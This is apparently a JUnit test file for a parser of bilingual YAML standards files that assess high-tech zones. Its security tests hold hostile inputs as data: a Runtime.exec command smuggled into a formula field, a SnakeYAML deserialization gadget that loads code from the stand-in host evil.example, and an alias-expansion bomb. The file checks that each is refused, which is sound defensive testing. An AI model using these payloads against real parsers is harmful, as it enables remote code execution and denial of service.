package org.gaoxin.standard;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;

import org.gaoxin.standard.internal.StandardParser;
import org.gaoxin.support.TestTexts;
import org.junit.jupiter.api.Test;

import org.springframework.core.io.ClassPathResource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * Standard files are validated before they are used, and every problem names its place in
 * the file.
 */
class StandardParserTest {

	static final Vocabulary VOCABULARY = new Vocabulary(
			Set.of("planned_area", "gdp", "secondary_tertiary_output", "fiscal_revenue", "fdi_actual", "population",
					"tech_contract_turnover", "iur_cooperation_projects", "energy_per_industrial_value_added"),
			Set.of("management_body", "high_tech_plan"));

	static final String MINIMAL = """
			code: TEST
			version: "1"
			name: {zh: 测试标准, en: Test standard}
			verdict: {core_share_met: 0.85, max_relative_gap: 0.2, pilot_deadline_years: 3}
			categories: [{code: a, zh: 甲, en: A}]
			aggregates:
			  hte: {count: enterprises, where: [high_tech]}
			indicators:
			  - {code: I1, category: a, zh: 面积, en: Area, unit: KM2, formula: planned_area, rule: ">=", threshold: 5}
			  - {code: I2, category: a, zh: 高企, en: HTE, unit: ENTERPRISES, formula: hte, rule: ">=", threshold: 40}
			""";

	@Test
	void readsTheBuiltInIllustrativeStandard() throws IOException {
		String text = new ClassPathResource("standards/cq-municipal-htz-illustrative.yaml")
			.getContentAsString(StandardCharsets.UTF_8);
		Standard standard = StandardParser.parse("built-in", text, VOCABULARY, "built-in");
		assertThat(standard.indicators()).hasSize(23);
		assertThat(standard.coreCount()).isEqualTo(23);
		assertThat(standard.description().zh()).contains("示意");
		assertThat(standard.description().en()).containsIgnoringCase("illustrative");
		assertThat(standard.verdictRule().maxRelativeGap()).isEqualByComparingTo("0.20");
		assertThat(standard.checksum()).hasSize(64);
	}

	@Test
	void theDocumentedExampleLoads() throws IOException {
		String doc = java.nio.file.Files.readString(java.nio.file.Path.of("docs", "STANDARDS.md"));
		String example = doc.substring(doc.indexOf("```yaml\ncode: EXAMPLE-PROVINCE") + "```yaml\n".length());
		example = example.substring(0, example.indexOf("```"));
		Standard standard = StandardParser.parse("STANDARDS.md", example, VOCABULARY, "doc");
		assertThat(standard.reference()).isEqualTo("EXAMPLE-PROVINCE@2026.1");
		assertThat(standard.indicators()).extracting(Indicator::code).containsExactly("P1", "P2", "P3");
	}

	@Test
	void readsAMinimalFile() {
		Standard standard = StandardParser.parse("t.yaml", MINIMAL, VOCABULARY, "test");
		assertThat(standard.reference()).isEqualTo("TEST@1");
		assertThat(standard.aggregates().get("hte").where()).containsExactly(EnterpriseFlag.HIGH_TECH);
	}

	@Test
	void namesUnknownFiguresWithTheirPlace() {
		assertThat(problems(MINIMAL.replace("formula: planned_area", "formula: planned_aera * 2")))
			.anyMatch((p) -> p.startsWith("indicators[0] (I1).formula (line 9)") && p.contains("'planned_aera'"));
	}

	@Test
	void refusesBadThresholds() {
		assertThat(problems(MINIMAL.replace("threshold: 5", "threshold: five")))
			.anyMatch((p) -> p.contains("indicators[0] (I1).threshold") && p.contains("not a number"));
		assertThat(problems(MINIMAL.replace("threshold: 5", "threshold: -5")))
			.anyMatch((p) -> p.contains("above zero"));
		assertThat(problems(MINIMAL.replace(", threshold: 5}", "}")))
			.anyMatch((p) -> p.contains("indicators[0] (I1).threshold") && p.endsWith(": required"));
	}

	@Test
	void refusesDuplicateCodes() {
		assertThat(problems(MINIMAL.replace("code: I2", "code: I1")))
			.anyMatch((p) -> p.contains("duplicate indicator code 'I1'"));
	}

	@Test
	void refusesUnknownCategoriesUnitsRulesAndFilters() {
		String broken = MINIMAL.replace("category: a, zh: 高企", "category: b, zh: 高企")
			.replace("unit: KM2", "unit: ACRES")
			.replace("rule: \">=\", threshold: 40", "rule: \">\", threshold: 40")
			.replace("where: [high_tech]", "where: [famous]");
		assertThat(problems(broken)).anySatisfy((p) -> assertThat(p).contains("unknown category 'b'"))
			.anySatisfy((p) -> assertThat(p).contains("unknown unit 'ACRES'"))
			.anySatisfy((p) -> assertThat(p).contains(".rule (line").contains("one of >=, <=, is-true"))
			.anySatisfy((p) -> assertThat(p).contains("unknown filter 'famous'"));
	}

	@Test
	void aFactMustBeAYesNoFigureJudgedIsTrue() {
		String fact = MINIMAL.replace("formula: planned_area, rule: \">=\", threshold: 5",
				"fact: gdp, rule: \">=\", threshold: 5");
		assertThat(problems(fact)).anyMatch((p) -> p.contains("not a yes/no zone figure"))
			.anyMatch((p) -> p.contains("judged with 'is-true'"));
	}

	@Test
	void refusesHostileFormulas() {
		assertThat(problems(
				MINIMAL.replace("formula: planned_area", "formula: 'java.lang.Runtime.getRuntime().exec(\"id\")'")))
			.anyMatch((p) -> p.startsWith("indicators[0] (I1).formula"));
	}

	@Test
	void aFileCannotNameAJavaClass() {
		String gadget = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]";
		// SnakeYAML refuses a global tag while composing; a local one is refused by name
		assertThat(problems(gadget)).singleElement().satisfies((p) -> assertThat(p).contains("not readable"));
		assertThat(problems("!thing\n" + MINIMAL)).anyMatch((p) -> p.contains("the type tag !thing is not allowed"));
	}

	@Test
	void refusesAliasBombs() {
		StringBuilder bomb = new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
		for (char c = 'b'; c <= 'k'; c++) {
			char p = (char) (c - 1);
			bomb.append(c)
				.append(": &")
				.append(c)
				.append(" [*")
				.append(p)
				.append(",*")
				.append(p)
				.append(",*")
				.append(p)
				.append(",*")
				.append(p)
				.append(",*")
				.append(p)
				.append(",*")
				.append(p)
				.append("]\n");
		}
		assertThatThrownBy(() -> StandardParser.parse("bomb.yaml", bomb.toString(), VOCABULARY, "test"))
			.isInstanceOf(StandardFormatException.class);
	}

	/**
	 * A threshold file marked scoring is refused (scoring standards are read since issue
	 * 15, see ScoringStandardParserTest): its verdict and thresholds do not belong there.
	 */
	@Test
	void aThresholdFileMarkedScoringIsRefused() {
		assertThat(problems("kind: scoring\n" + MINIMAL)).anyMatch((p) -> p.contains("scoring"))
			.anyMatch((p) -> p.contains("verdict (line 5): 'verdict' does not belong to a scoring standard"));
		assertThat(problems("kind: scored\n" + MINIMAL))
			.anyMatch((p) -> p.contains("one of 'threshold' or 'scoring' (not 'scored')"));
	}

	/** The problems of a refused file, as an English reader reads them. */
	static List<String> problems(String text) {
		StandardFormatException ex = catchThrowableOfType(StandardFormatException.class,
				() -> StandardParser.parse("t.yaml", text, VOCABULARY, "test"));
		assertThat(ex).as("expected the file to be refused").isNotNull();
		return ex.problems().stream().map(TestTexts::en).toList();
	}

	/** The same problems in Chinese. */
	static List<String> problemsInChinese(String text) {
		StandardFormatException ex = catchThrowableOfType(StandardFormatException.class,
				() -> StandardParser.parse("t.yaml", text, VOCABULARY, "test"));
		assertThat(ex).as("expected the file to be refused").isNotNull();
		return ex.problems().stream().map(TestTexts::zh).toList();
	}

}
